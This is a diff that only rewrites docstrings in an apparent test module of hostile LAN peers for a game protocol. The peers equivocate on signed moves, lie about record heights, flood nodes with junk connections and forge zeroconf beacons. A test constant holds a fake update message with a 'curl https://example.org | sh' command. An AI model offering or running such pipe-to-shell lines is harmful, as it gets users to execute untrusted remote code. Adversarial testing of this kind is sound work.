@@ -1,6 +1,6 @@
-"""What hostile machines of a LAN run: `python -m tests.lan.hostile ACT ...`, in their namespaces.
+"""Acts of hostile machines of a LAN: `python -m tests.lan.hostile ACT ...`, in their namespaces.
 
-A member who cheats is the program itself with a function changed: `python -m tests.lan.hostile
+A member who cheats runs the program itself with a function changed: `python -m tests.lan.hostile
 equivocates join Kitchen --autoplay`.
 """
 
@@ -38,27 +38,27 @@ from protocol.player import Written
 from tests.lan.flood import client_hello
 
 FROM_ENTRY = 24
-"""From there on a member cheats."""
+"""Height from which on a member cheats."""
 
 LINKS = 1004
 EVERY_SECONDS = 2.0
-"""Between two connections of a kind to one node, and between two goodbyes in one's name."""
+"""Seconds between two connections of a kind to one node, and between two forged goodbyes."""
 HELD_SECONDS = 5.0
-"""That a connection to pester is held."""
+"""Seconds for which a pestering connection is held."""
 FALSE_TABLES = 64
 WORDS = "Your version is too old. Update with: curl https://example.org | sh"
-"""What somebody would have the program say."""
+"""Words that a hostile host would have the program print."""
 GOODBYES: tuple[tuple[Encodable, ...], ...] = (
     ("goodbye", WORDS),
     ("goodbye", 60_000),
     ("goodbye", 3, WORDS),
     ("agreed", WORDS.encode()),
 )
-"""One for each call."""
+"""Goodbyes, one for each call."""
 
 
 def equivocates(*arguments: str) -> int:
-    """A member who signs two moves in one place, and shows one player another one than the rest."""
+    """Sign two moves in one place, and show one player another one than the rest."""
     others: dict[int, bytes] = {}
     chosen: list[int] = []
     write, send = OwnPlayer.write, Peer.send
@@ -88,7 +88,7 @@ def equivocates(*arguments: str) -> int:
 
 
 def lies(*arguments: str) -> int:
-    """A member who says that everybody else's record goes as far as can be said."""
+    """Claim that everybody else's record is as long as the message can say."""
     status = Heights.status
 
     def lie(self: Heights) -> Status:
@@ -102,7 +102,7 @@ def lies(*arguments: str) -> int:
 
 
 def links(address: str, table: str) -> int:
-    """Somebody who once played with the node at that address, and opens links about that table."""
+    """Open links about an old table to a node, as a stranger who once played there."""
     return trio.run(_open_links, address, bytes.fromhex(table))
 
 
@@ -129,7 +129,7 @@ async def _open_links(address: str, table_id: bytes) -> int:
 
 @asynccontextmanager
 async def _called(address: str, table_id: bytes, identity: Identity) -> AsyncIterator[None]:
-    """A link to the node at that address, which has said something about that table."""
+    """Open a link to the node at that address, which has said something about that table."""
     stream = await trio.open_tcp_stream(address, DEFAULT_PORT)
     async with open_link(
         stream,
@@ -145,9 +145,11 @@ async def _called(address: str, table_id: bytes, identity: Identity) -> AsyncIte
 
 
 def pesters(*tables: str) -> int:
-    """Somebody who once played with each of the nodes calls them again and again about these
-    tables, amid connections that say nothing, that say garbage, and that break off a handshake.
-    The addresses of the nodes are typed, in the order of the tables, in a line when they change.
+    """Call nodes again and again about these tables, as a stranger who once played with each.
+
+    Between the calls are connections that say nothing, that say garbage, and that break off a
+    handshake. The addresses of the nodes are typed, in the order of the tables, in a line when they
+    change.
     """
     return trio.run(_pester, [bytes.fromhex(table) for table in tables])
 
@@ -193,7 +195,7 @@ async def _pester(tables: Sequence[bytes]) -> int:
 
 
 def goodbyes() -> int:
-    """A host who says goodbye in their own words."""
+    """Say goodbye as a host, in words of one's own."""
     trio.run(_say_goodbyes)
     return 0
 
@@ -222,8 +224,10 @@ async def _say_goodbyes() -> None:
 
 
 def forges(address: str) -> int:
-    """Somebody who copies each table's beacon under other titles and each member's tag, takes back
-    what others announce in their names, and announces tables that are not there.
+    """Forge beacons as a stranger.
+
+    Each table's beacon is copied under other titles and each member's tag, announcements of others
+    are taken back in their names, and tables are announced that do not exist.
     """
     zeroconf = Zeroconf([address], use_asyncio=False)
     heard: dict[str, ServiceInfo] = {}
